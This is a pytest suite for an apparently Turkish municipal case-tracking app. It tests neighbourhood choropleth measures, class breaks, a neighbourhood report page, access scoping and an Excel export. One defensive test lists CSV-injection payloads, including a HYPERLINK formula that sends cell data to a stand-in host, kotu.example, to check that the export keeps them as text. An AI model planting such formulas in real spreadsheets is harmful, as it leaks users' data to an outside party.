"""The analysis of the mahalles: the measures the map colours them by, the mahalle page and its export.

The cases are those of the old_town fixture (conftest): Sarıyakup 3 (2 open, 1 overdue, 1 answered in 2
days; 2 000 residents), Türkocağı 2 (both open, 1 overdue; 500 residents), Ulucamii 1 (open),
Bahçelievler in Seyhan 1 (overdue) and Bahçelievler in Yüreğir 1 (answered in 7 days), one case nowhere.
"""

import datetime as dt
import io
import json
import re

import openpyxl
import pytest
import shapely
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from kentmasa.cases import services
from kentmasa.cases.models import Case, Channel
from kentmasa.directory.models import User
from kentmasa.places.importer import import_features
from kentmasa.places.models import Area
from kentmasa.reports import choropleth, mahalle_page, neighbourhoods, views_map
from kentmasa.reports.tests.conftest import (
    BAHCELIEVLER_SEYHAN,
    BAHCELIEVLER_YUREGIR,
    MAHALLE_IDS,
    SARIYAKUP,
    TURKOCAGI,
    ULUCAMII,
    _features,
    nudge,
    place,
)


def excel_time(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> dt.datetime:
    """A date-time cell as openpyxl reads it back: the wall clock in Turkey, without a zone."""
    return dt.datetime(year, month, day, hour, minute)  # noqa: DTZ001 - Excel cells carry no time zone


AREAS = "/raporlar/harita/mahalleler"
MARCH_18 = dt.datetime.fromisoformat("2026-03-18T10:00+03:00")


def layer(client, measure="count", **params) -> dict:
    response = client.get(AREAS, {"measure": measure, "zoom": 14, **params}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200, response.content
    return response.json()


def by_name(data: dict) -> dict:
    return {(f["properties"]["district"], f["properties"]["name"]): f["properties"] for f in data["features"]}


def values(data: dict) -> dict:
    return {
        name: props["value"] for (_, name), props in by_name(data).items() if "Bahçelievler" not in name
    } | {
        f"{district} {name}": props["value"]
        for (district, name), props in by_name(data).items()
        if "Bahçelievler" in name
    }


# -- the measures -------------------------------------------------------------------------------------------


def test_case_count_per_mahalle(client, administrator, old_town):
    client.force_login(administrator)

    data = layer(client, "count")

    # "Sarıyakup Mh." and "Sarıyakup Mahallesi" are one mahalle; the two Bahçelievlers are two.
    assert values(data) == {
        "Sarıyakup Mahallesi": 3,
        "Türkocağı Mahallesi": 2,
        "Ulucamii Mahallesi": 1,
        "Seyhan Bahçelievler Mahallesi": 1,
        "Yüreğir Bahçelievler Mahallesi": 1,
    }
    assert data["unmatched"] == 1  # the case with no place
    assert data["measure"] == "count" and data["measure_label"] == "Cases"


def test_cases_per_thousand_residents_where_the_population_is_known(client, administrator, old_town):
    client.force_login(administrator)

    data = layer(client, "per_1000")

    assert values(data) == {
        "Sarıyakup Mahallesi": 1.5,  # 3 cases, 2 000 residents
        "Türkocağı Mahallesi": 4.0,  # 2 cases, 500 residents
        "Ulucamii Mahallesi": None,
        "Seyhan Bahçelievler Mahallesi": None,
        "Yüreğir Bahçelievler Mahallesi": None,
    }
    props = by_name(data)[("Seyhan", "Ulucamii Mahallesi")]
    assert (props["class"], props["colour"], props["value_text"]) == (None, "#d9d9d9", "no data")


def test_overdue_share_of_the_cases_still_owed_an_answer(client, administrator, old_town):
    client.force_login(administrator)

    data = layer(client, "overdue_share")

    assert values(data) == {
        "Sarıyakup Mahallesi": 50.0,  # 1 of 2 open
        "Türkocağı Mahallesi": 50.0,  # the bench has no deadline
        "Ulucamii Mahallesi": 0.0,
        "Seyhan Bahçelievler Mahallesi": 100.0,
        "Yüreğir Bahçelievler Mahallesi": None,  # nothing open
    }
    assert by_name(data)[("Seyhan", "Sarıyakup Mahallesi")]["value_text"] == "50.0%"


def test_median_resolution_time_in_days(client, administrator, old_town, road_manager, make_case):
    # Sarıyakup's answered cases: old_town's in 2 days and one more in 4, written "Sarıyakup Mh."; the median
    # of an even number of durations is the mean of the middle two: (2 + 4) / 2 = 3.
    resolve_in(make_case, road_manager, "Sarıyakup Mh.", 4)
    client.force_login(administrator)

    data = layer(client, "median_days")

    assert values(data) == {
        "Sarıyakup Mahallesi": pytest.approx(3.0),
        "Türkocağı Mahallesi": None,
        "Ulucamii Mahallesi": None,
        "Seyhan Bahçelievler Mahallesi": None,
        "Yüreğir Bahçelievler Mahallesi": pytest.approx(7.0),
    }
    assert by_name(data)[("Seyhan", "Sarıyakup Mahallesi")]["value_text"] == "3.0 days"


def test_the_median_pools_the_ways_a_mahalle_is_written(
    client, administrator, old_town, road_manager, make_case
):
    # 2 and 4 days as "Sarıyakup Mh.", 1 as "Sarıyakup Mahallesi", 10 and 12 as "SARIYAKUP MAH.": the
    # median of all five is 4 (not 3, the median of the medians of each spelling).
    resolve_in(make_case, road_manager, "Sarıyakup Mh.", 4)
    resolve_in(make_case, road_manager, "Sarıyakup Mahallesi", 1)
    resolve_in(make_case, road_manager, "SARIYAKUP MAH.", 10)
    resolve_in(make_case, road_manager, "SARIYAKUP MAH.", 12)
    client.force_login(administrator)

    data = layer(client, "median_days")

    assert values(data)["Sarıyakup Mahallesi"] == pytest.approx(4.0)
    assert values(data)["Yüreğir Bahçelievler Mahallesi"] == pytest.approx(7.0)


def resolve_in(make_case, actor, neighbourhood: str, days: int):
    case = make_case(received_at=MARCH_18, location=place(SARIYAKUP, "Seyhan", neighbourhood))
    return services.resolve(case, actor=actor, resolution="Yapıldı.", now=MARCH_18 + dt.timedelta(days=days))


def test_few_distinct_values_are_a_class_each_and_the_legend_says_so(client, administrator, old_town):
    client.force_login(administrator)

    data = layer(client, "count")

    # Counts 1, 1, 1, 2, 3: three distinct values for five classes, so one class each.
    classes = {name: props["class"] for (_, name), props in by_name(data).items()}
    assert classes["Sarıyakup Mahallesi"] == 2 and classes["Türkocağı Mahallesi"] == 1
    assert classes["Ulucamii Mahallesi"] == 0
    assert [(entry["class"], entry["label"]) for entry in data["legend"]] == [
        (0, "1"),
        (1, "2"),
        (2, "3"),
        (None, "no data"),
    ]
    colours = {props["class"]: props["colour"] for props in by_name(data).values()}
    assert colours == {
        0: choropleth.COLOURS[0],
        1: choropleth.COLOURS[2],
        2: choropleth.COLOURS[4],
    }


@pytest.fixture
def quiet_seyhan(adana):
    """Twenty more Seyhan mahalles, none with a case: like the demo, where most mahalles have none."""
    extra = [
        feature
        for feature in _features("mahalleler-adana.geojson")
        if feature["properties"]["townId"] == 1 and str(feature["properties"]["id"]) not in MAHALLE_IDS
    ][:20]
    report = import_features(list(extra), source="test")
    assert not report.skipped, report.skipped
    return adana


def test_one_case_and_seventeen_are_told_apart_among_many_mahalles_with_none(
    client, administrator, quiet_seyhan, make_case
):
    """The demo's legend had two classes, "0 ve altı / 0 üzeri": quantiles of counts that are mostly 0."""
    seyhan = "Seyhan"
    for point, district, name, count in [
        (SARIYAKUP, seyhan, "Sarıyakup Mh.", 17),
        (TURKOCAGI, seyhan, "Türkocağı Mh.", 1),
        (ULUCAMII, seyhan, "Ulucamii Mh.", 2),
        (BAHCELIEVLER_SEYHAN, seyhan, "Bahçelievler Mh.", 4),
        (BAHCELIEVLER_YUREGIR, "Yüreğir", "Bahçelievler Mh.", 6),
    ]:
        for _ in range(count):
            make_case(location=place(point, district, name))
    client.force_login(administrator)

    response = client.get(AREAS, {"measure": "count", "zoom": 14}, HTTP_ACCEPT_LANGUAGE="tr")
    data = response.json()

    assert len(data["features"]) == 25
    classes = {name: props["class"] for (_, name), props in by_name(data).items()}
    assert classes["Türkocağı Mahallesi"] != classes["Sarıyakup Mahallesi"]
    # Twenty without a case, then 1, 2, 4, 6 and 17: zero is a class of its own, the rest natural breaks.
    assert [entry["label"] for entry in data["legend"]] == ["0", "1–2", "4", "6", "17", "veri yok"]
    assert (classes["Türkocağı Mahallesi"], classes["Ulucamii Mahallesi"]) == (1, 1)
    assert classes["Sarıyakup Mahallesi"] == 4
    assert {props["class"] for props in by_name(data).values()} == {0, 1, 2, 3, 4}
    assert len({props["colour"] for props in by_name(data).values()}) == 5


def test_the_layer_follows_the_filters(client, administrator, old_town, parks):
    client.force_login(administrator)

    data = layer(client, "count", unit=parks.pk)

    assert values(data)["Türkocağı Mahallesi"] == 1
    assert values(data)["Sarıyakup Mahallesi"] == 0
    assert by_name(data)[("Seyhan", "Türkocağı Mahallesi")]["url"].endswith(f"?unit={parks.pk}")


def test_unit_staff_see_their_units_cases_only(client, park_staff, old_town):
    client.force_login(park_staff)

    assert values(layer(client, "count")) == {
        "Sarıyakup Mahallesi": 0,
        "Türkocağı Mahallesi": 1,
        "Ulucamii Mahallesi": 0,
        "Seyhan Bahçelievler Mahallesi": 0,
        "Yüreğir Bahçelievler Mahallesi": 0,
    }


def test_boundaries_are_simplified_for_the_zoom_and_stay_valid(client, administrator, old_town, adana):
    client.force_login(administrator)
    sariyakup = adana["sariyakup"].pk

    def boundary(zoom: int):
        data = layer(client, zoom=zoom)
        feature = next(f for f in data["features"] if f["id"] == sariyakup)
        return shapely.from_geojson(json.dumps(feature["geometry"]))

    original = shapely.from_geojson(Area.objects.get(pk=sariyakup).geometry)
    coarse, fine = boundary(10), boundary(16)

    assert shapely.get_num_coordinates(coarse) < shapely.get_num_coordinates(fine)
    assert shapely.get_num_coordinates(fine) <= shapely.get_num_coordinates(original)
    assert coarse.is_valid and fine.is_valid
    assert fine.symmetric_difference(original).area < 0.02 * original.area


def test_the_layer_costs_the_same_queries_for_more_cases(client, administrator, old_town, make_case):
    client.force_login(administrator)
    layer(client, "median_days")  # boundaries read and simplified once per process
    with CaptureQueriesContext(connection) as few:
        layer(client, "median_days")
    for metres in range(20):
        make_case(location=place(nudge(ULUCAMII, metres_east=metres), "Seyhan", "Ulucamii Mh."))
        make_case(location=place(nudge(TURKOCAGI, metres_north=metres), "Seyhan", "Türkocağı Mahallesi"))
    with CaptureQueriesContext(connection) as many:
        data = layer(client, "median_days")

    assert values(layer(client, "count"))["Ulucamii Mahallesi"] == 21
    assert len(data["features"]) == 5
    assert len(many.captured_queries) == len(few.captured_queries)


def test_an_unknown_measure_is_refused(client, administrator):
    client.force_login(administrator)

    response = client.get(AREAS, {"measure": "mood"})

    assert response.status_code == 400


def test_other_institutions_mahalles_are_not_in_the_layer(client, make_user, adana, other_institution):
    kayseri = make_user(User.Role.ADMINISTRATOR, "kayseri", institution_=other_institution)
    client.force_login(kayseri)

    assert layer(client)["features"] == []


# -- matching texts to mahalles -----------------------------------------------------------------------------


def test_the_gazetteer_reads_the_ways_a_mahalle_is_written(adana):
    gazetteer = neighbourhoods.Gazetteer()
    sariyakup, seyhan_b, yuregir_b = (
        adana["sariyakup"].pk,
        adana["bahcelievler_seyhan"].pk,
        adana["bahcelievler_yuregir"].pk,
    )

    assert gazetteer.find("Adana", "Seyhan", "Sarıyakup Mh.") == sariyakup
    assert gazetteer.find("ADANA", "SEYHAN", "SARIYAKUP MAHALLESİ") == sariyakup
    assert gazetteer.find("", "Seyhan", "Sarıyakup Mah.") == sariyakup
    assert gazetteer.find("Adana", "Seyhan", "Bahçelievler Mh.") == seyhan_b
    assert gazetteer.find("Adana", "Yüreğir", "Bahçelievler Mahallesi") == yuregir_b
    assert gazetteer.find("Adana", "Yüreğir", "Sarıyakup Mh.") is None
    assert gazetteer.find("Adana", "", "Bahçelievler Mh.") is None
    assert gazetteer.find("Kayseri", "Seyhan", "Sarıyakup Mh.") is None


DEMO_LIKE = (
    [0] * 780 + [1] * 30 + [2] * 12 + [3] * 8 + [4] * 3 + [5] * 4 + [7] * 2 + [8] * 3 + [12, 17, 17, 40]
)


@pytest.mark.parametrize(
    ("values", "breaks"),
    [
        ([], []),
        ([5.0], []),
        ([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], [2, 4, 6, 8]),
        ([0, 0, 0, 0, 9], [0]),
        ([1, 1, 1, 2, 3], [1, 2]),
        # Two groups and three far values: the groups stay whole, the far values stand apart.
        ([1, 1, 2, 2, 10, 11, 12, 50, 52, 100], [2, 12, 50, 52]),
        # Most mahalles without a case: zero alone, then natural breaks over the rest.
        (DEMO_LIKE, [0, 3, 8, 17]),
    ],
)
def test_natural_breaks(values, breaks):
    assert choropleth.class_breaks(values) == breaks


def test_the_legend_names_each_class_by_its_smallest_and_largest_value():
    breaks = choropleth.class_breaks(DEMO_LIKE)
    with translation.override("tr"):
        labels = [entry["label"] for entry in choropleth.legend("count", breaks, DEMO_LIKE)]
        days = [1 / 24 * 5, 0.9, 2.0, 2.5, 6.0, 7.0, 30.0]
        day_breaks = choropleth.class_breaks(days, classes=3)
        day_labels = [entry["label"] for entry in choropleth.legend("median_days", day_breaks, days)]

    assert labels == ["0", "1–3", "4–8", "12–17", "40", "veri yok"]
    assert choropleth.class_of(1, breaks) != choropleth.class_of(17, breaks)
    assert day_labels == ["5,0 saat – 2,5 gün", "6,0 gün – 7,0 gün", "30,0 gün", "veri yok"]


def test_natural_breaks_of_many_distinct_values_are_values_of_the_data():
    values = [round(1.001**index, 6) for index in range(20_000)]

    breaks = choropleth.class_breaks(values)

    assert len(breaks) == 4 and breaks == sorted(set(breaks))
    assert set(breaks) <= set(values)


def test_percentiles_interpolate_between_ranks():
    assert mahalle_page.percentile([], 0.5) is None
    assert mahalle_page.percentile([4.0], 0.9) == 4.0
    assert mahalle_page.percentile([1, 2, 4, 10], 0.5) == 3.0
    assert mahalle_page.percentile([1, 2, 4, 10], 0.9) == pytest.approx(8.2)


# -- the mahalle page ---------------------------------------------------------------------------------------


@pytest.fixture
def sariyakup_month(old_town, make_case, road_manager, parks):
    """March 2026 in Sarıyakup on top of old_town: three more potholes at the same corner (one answered in
    4 days, one in 10), a park case 300 m away, and a case by SMS on 30 March."""
    corner = place(nudge(SARIYAKUP, metres_north=-2), "Seyhan", "Sarıyakup Mh.")
    for days in (4, 10):
        case = make_case(subject=f"Köşede çukur ({days})", received_at=MARCH_18, location=corner)
        services.resolve(
            case, actor=road_manager, resolution="Yapıldı.", now=MARCH_18 + dt.timedelta(days=days)
        )
    make_case(subject="Köşede yine çukur", received_at=MARCH_18 + dt.timedelta(days=1), location=corner)
    make_case(
        subject="Parkta kırık salıncak",
        category=None,
        unit=parks,
        received_at=MARCH_18 + dt.timedelta(days=3),
        location=place(nudge(SARIYAKUP, metres_east=300), "Seyhan", "Sarıyakup Mh."),
    )
    return make_case(
        subject="SMS ile çukur",
        channel=Channel.SMS,
        received_at=dt.datetime.fromisoformat("2026-03-30T09:00+03:00"),
        location=place(nudge(SARIYAKUP, metres_north=-60), "Seyhan", "Sarıyakup Mh."),
    )


MARCH = {"received_from": "2026-03-01", "received_to": "2026-03-31"}


def page(client, area, **params):
    response = client.get(f"/raporlar/mahalle/{area.pk}/", params, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    return response


def test_the_mahalle_page_counts_by_category_week_and_unit(client, administrator, adana, sariyakup_month):
    client.force_login(administrator)

    context = page(client, adana["sariyakup"], **MARCH).context

    # In March: old_town's two of 18 March, three at the corner, the park case and the SMS case (the case
    # of yesterday is outside the period).
    assert context["totals"]["count"] == 7
    assert [(r["category__name"], r["count"], r["overdue"]) for r in context["by_category"]] == [
        ("Yol çökmesi / çukur", 6, 3),
        (None, 1, 0),
    ]
    assert [(r["week"].isoformat(), r["count"], r["bar"]) for r in context["by_week"]] == [
        ("2026-02-23", 0, 0),
        ("2026-03-02", 0, 0),
        ("2026-03-09", 0, 0),
        ("2026-03-16", 6, 100.0),
        ("2026-03-23", 0, 0),
        ("2026-03-30", 1, 16.7),
    ]
    units = {
        row["name"]: (row["open"], row["overdue"], row["resolved"], row["within"])
        for row in context["by_unit"]
    }
    assert units == {"Fen İşleri Müdürlüğü": (3, 3, 3, 3), "Park ve Bahçeler Müdürlüğü": (1, 0, 0, 0)}


def test_resolution_times_median_ninetieth_percentile_and_within_standard(
    client, administrator, adana, sariyakup_month
):
    client.force_login(administrator)

    times = page(client, adana["sariyakup"], **MARCH).context["times"]

    # Answered in 2, 4 and 10 days (18 March + 15 working days is 9 April: all in time).
    assert times["resolved"] == 3
    assert times["median_days"] == pytest.approx(4.0)
    assert times["p90_days"] == pytest.approx(8.8)
    assert (times["measured"], times["within"], times["within_percent"]) == (3, 3, 100.0)
    assert (times["median_text"], times["p90_text"]) == ("4.0 days", "8.8 days")


def test_repeat_locations_group_cases_within_25_metres(client, administrator, adana, sariyakup_month):
    client.force_login(administrator)

    spots = page(client, adana["sariyakup"]).context["hotspots"]

    # The corner: old_town's three (the one 5 m east, the one 5 m south, the first) and the three added
    # 2 m south. The park case 300 m east and the SMS case 60 m south are alone.
    assert [(spot["count"], spot["overdue"]) for spot in spots] == [(6, 2)]
    [corner] = spots
    assert corner["categories"] == ["Yol çökmesi / çukur"]
    assert len(corner["cases"]) == 5 and corner["more"] == 1
    assert corner["cases"][0].subject == "Sarıyakup'ta yeni çukur"  # the latest first


def test_the_page_shows_its_tables(client, administrator, adana, sariyakup_month):
    client.force_login(administrator)

    html = page(client, adana["sariyakup"], **MARCH).content.decode()

    assert '<h1 id="mahalle-name">Sarıyakup Mahallesi</h1>' in html
    category_table = html[
        html.index('id="by-category"') : html.index("</table>", html.index('id="by-category"'))
    ]
    assert "Yol çökmesi / çukur" in category_table and ">6</td>" in category_table
    assert 'id="by-week"' in html and "16.03.2026 – 22.03.2026" in html
    assert 'id="by-unit"' in html and 'id="hotspots"' in html
    assert 'data-figure="per-1000"' in html  # Sarıyakup's population is known
    assert f'href="/raporlar/mahalle/{adana["sariyakup"].pk}/disari.xlsx?received_from=2026-03-01' in html
    assert "<script>" not in html


def test_unit_staff_see_only_their_units_cases_on_the_page(client, park_staff, adana, sariyakup_month):
    client.force_login(park_staff)

    context = page(client, adana["sariyakup"]).context

    assert context["totals"]["count"] == 1
    assert [r["category__name"] for r in context["by_category"]] == [None]
    assert context["hotspots"] == []


def test_a_district_or_unknown_area_has_no_mahalle_page(client, administrator, adana):
    client.force_login(administrator)

    assert client.get(f"/raporlar/mahalle/{adana['seyhan'].pk}/").status_code == 404
    assert client.get("/raporlar/mahalle/999999/").status_code == 404


# -- the export ---------------------------------------------------------------------------------------------


def test_the_export_is_the_table_behind_the_page(client, administrator, adana, sariyakup_month):
    client.force_login(administrator)
    sms = sariyakup_month

    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx", MARCH)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="mahalle-sariyakup-mahallesi-' in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Başvurular",
        "Kategoriler",
        "Haftalar",
        "Birimler",
        "Tekrarlayan Yerler",
        "Özet",
    ]
    sheet = book["Başvurular"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Takip No",
        "Başvuru Tarihi",
        "Konu",
        "Kategori",
        "Birim",
        "Kanal",
        "Durum",
        "Son Tarih",
        "Çözüm Tarihi",
        "Çözüm Süresi (gün)",
        "Standart İçinde",
        "Gecikmiş",
        "Sokak",
        "Enlem",
        "Boylam",
    )
    assert len(rows) == 1 + 7
    last = rows[-1]
    number = sms.tracking_number
    # Times are kept to the minute, as the wall clock in Turkey showed them.
    assert last[:9] == (
        f"{number[:2]}-{number[2:-1]}-{number[-1]}",
        excel_time(2026, 3, 30, 9, 0),
        "SMS ile çukur",
        "Yol çökmesi / çukur",
        "Fen İşleri Müdürlüğü",
        "SMS",
        "Alındı",
        excel_time(2026, 4, 20, 17, 30),  # the end of the fifteenth working day
        None,
    )
    assert last[9:12] == (None, None, "Evet")
    assert last[13:] == (  # type: ignore[comparison-overlap]  # pytest.approx compares with floats
        pytest.approx(SARIYAKUP[0] - 60 / 111_320, abs=1e-6),
        pytest.approx(SARIYAKUP[1]),
    )
    answered = next(row for row in rows if row[2] == "Köşede çukur (10)")
    assert answered[8:12] == (excel_time(2026, 3, 28, 10, 0), 10.0, "Evet", "Hayır")
    # Times are date-time cells shown the Turkish way, a number Excel sorts and filters as a date.
    assert (sheet["B2"].data_type, sheet["B2"].number_format) == ("d", "dd.mm.yyyy hh:mm")
    assert sheet["B2"].is_date
    summary = {row[0]: row[1] for row in book["Özet"].iter_rows(values_only=True)}
    assert summary["Mahalle"] == "Sarıyakup Mahallesi" and summary["İlçe"] == "Seyhan"
    assert summary["Başvuru"] == 7 and summary["Ortanca Çözüm Süresi (gün)"] == 4.0
    weeks = list(book["Haftalar"].iter_rows(values_only=True))
    assert weeks[0] == ("Hafta Başı", "Hafta Sonu", "Başvuru")
    assert (excel_time(2026, 3, 16), excel_time(2026, 3, 22), 6) in weeks


def test_the_export_is_scoped_like_the_page(client, park_staff, adana, sariyakup_month):
    client.force_login(park_staff)

    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx")

    rows = list(
        openpyxl.load_workbook(io.BytesIO(response.content))["Başvurular"].iter_rows(values_only=True)
    )
    assert [row[2] for row in rows[1:]] == ["Parkta kırık salıncak"]


def test_an_export_with_bad_filters_is_refused(client, administrator, adana):
    client.force_login(administrator)

    response = client.get(
        f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx", {"received_from": "yesterday"}
    )

    assert response.status_code == 400


# Text a citizen typed that a spreadsheet would otherwise run (OWASP "CSV injection"): each stays text.
FORMULAS = [
    '=HYPERLINK("http://kotu.example/?veri="&A1,"Tıklayın")',
    "+90 532 111 22 33",
    "-2+3",
    "@SUM(A1:A9)",
]


def test_citizen_text_is_written_as_text_never_as_a_formula(client, administrator, adana, make_case):
    seyhan = "Seyhan"
    for text in FORMULAS:
        make_case(subject=text, location=place(SARIYAKUP, seyhan, "Sarıyakup Mh.", street=text))
    # Intake strips leading blanks; a record from before (or an import) may still start with a tab.
    tabbed = make_case(subject="Sekmeli", location=place(SARIYAKUP, seyhan, "Sarıyakup Mh."))
    Case.objects.filter(pk=tabbed.pk).update(street="\t=1+1")
    client.force_login(administrator)

    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Başvurular"]
    subjects = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(subjects) == {*FORMULAS, "Sekmeli"}
    for text in FORMULAS:
        subject, street = subjects[text][2], subjects[text][12]
        assert (subject.value, subject.data_type) == (text, "s")
        assert (street.value, street.data_type) == (text, "s")
    assert (subjects["Sekmeli"][12].value, subjects["Sekmeli"][12].data_type) == ("\t=1+1", "s")


def test_text_xml_cannot_carry_does_not_break_the_export(client, administrator, adana, make_case):
    make_case(subject="Işık\x1b yanmıyor\x07", location=place(SARIYAKUP, "Seyhan", "Sarıyakup Mh."))
    client.force_login(administrator)

    response = client.get(f"/raporlar/mahalle/{adana['sariyakup'].pk}/disari.xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Başvurular"]
    assert sheet["C2"].value == "Işık yanmıyor"


# -- the mahalle's cases, listed ----------------------------------------------------------------------------


def listed(response) -> list[str]:
    return [case.tracking_number for case in response.context["listed"]]


def test_the_page_lists_its_cases_latest_first_each_linked(client, administrator, adana, sariyakup_month):
    client.force_login(administrator)

    response = page(client, adana["sariyakup"], **MARCH)

    # March's seven, the latest (the SMS case of 30 March) first.
    subjects = [case.subject for case in response.context["listed"]]
    assert subjects[0] == "SMS ile çukur" and len(subjects) == 7
    html = response.content.decode()
    assert "7 cases, the latest first." in html
    for case in response.context["listed"]:
        assert f'href="/vaka/{case.tracking_number}/"' in html
    # The small map shows the listed cases' points, with their tracking number and subject.
    points = response.context["map_config"]["points"]
    assert len(points) == 7
    sms = sariyakup_month
    number = f"{sms.tracking_number[:2]}-{sms.tracking_number[2:-1]}-{sms.tracking_number[-1]}"
    assert points[0] == {
        "lat": float(sms.latitude),
        "lon": float(sms.longitude),
        "label": f"{number} · SMS ile çukur",
        "overdue": True,  # due 20 April 2026
    }


def test_the_list_is_paged(client, administrator, adana, sariyakup_month, monkeypatch):
    monkeypatch.setattr(views_map, "MAHALLE_CASES_PER_PAGE", 3)
    client.force_login(administrator)
    first = page(client, adana["sariyakup"], **MARCH)
    after = re.search(r'rel="next" href="\?[^"]*after=([^"#]+)#cases-heading"', first.content.decode()).group(
        1
    )
    second = page(client, adana["sariyakup"], **MARCH, after=after)
    after = re.search(r'rel="next" href="\?[^"]*after=([^"#]+)', second.content.decode()).group(1)
    last = page(client, adana["sariyakup"], **MARCH, after=after)

    everything = listed(first) + listed(second)
    assert len(everything) == 6 and len(listed(last)) == 1
    assert len(set(everything + listed(last))) == 7  # every case once
    assert len(last.context["map_config"]["points"]) == 1  # the map follows the list
    html = last.content.decode()
    assert "7 cases, the latest first." in html and 'rel="next"' not in html
    assert 'href="?received_from=2026-03-01&amp;received_to=2026-03-31#cases-heading"' in html  # first page
    before = re.search(r'rel="prev" href="\?[^"]*before=([^"#]+)', html).group(1)
    assert listed(page(client, adana["sariyakup"], **MARCH, before=before)) == listed(second)
    # A cursor that is not one of ours, or an old page number, is the first page, never an error.
    for junk in ({"after": "x"}, {"before": "1.99999999999999999999"}, {"page": "99"}):
        assert listed(page(client, adana["sariyakup"], **MARCH, **junk)) == everything[:3]


def test_unit_staff_see_and_reach_only_their_units_cases(
    client, park_staff, adana, sariyakup_month, old_town
):
    client.force_login(park_staff)

    response = page(client, adana["sariyakup"])

    html = response.content.decode()
    [park_case] = response.context["listed"]
    assert park_case.subject == "Parkta kırık salıncak"
    assert f'href="/vaka/{park_case.tracking_number}/"' in html
    assert old_town["sariyakup_late"].tracking_number not in html
    assert sariyakup_month.tracking_number not in html
    assert len(response.context["map_config"]["points"]) == 1


def test_staff_of_another_institution_see_no_case(
    client, make_user, adana, sariyakup_month, other_institution
):
    stranger = make_user(User.Role.ADMINISTRATOR, "baska_yonetici", institution_=other_institution)
    client.force_login(stranger)

    response = page(client, adana["sariyakup"])

    assert listed(response) == []
    assert response.context["map_config"]["points"] == []
    assert sariyakup_month.tracking_number not in response.content.decode()


@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="query plans are PostgreSQL's (EXPLAIN with enable_seqscan = off); SQLite has no such switch",
)
def test_the_mahalle_case_list_reads_an_index_on_postgresql(client, administrator, adana, sariyakup_month):
    from kentmasa.cases.tests.test_plans import assert_reads

    client.force_login(administrator)
    with CaptureQueriesContext(connection) as captured:
        page(client, adana["sariyakup"])
    listing = [
        q["sql"]
        for q in captured.captured_queries
        # the keyset page's keys: the cases with a time, the latest first (then those without, none here)
        if '"cases_case"."received_at" AS "received_at" FROM' in q["sql"]
        and "LIMIT" in q["sql"]
        and '"cases_case"."received_at" IS NULL' not in q["sql"]
    ]
    assert listing
    for sql in listing:
        assert_reads(sql, "case_mahalle", "case_institution_recent")
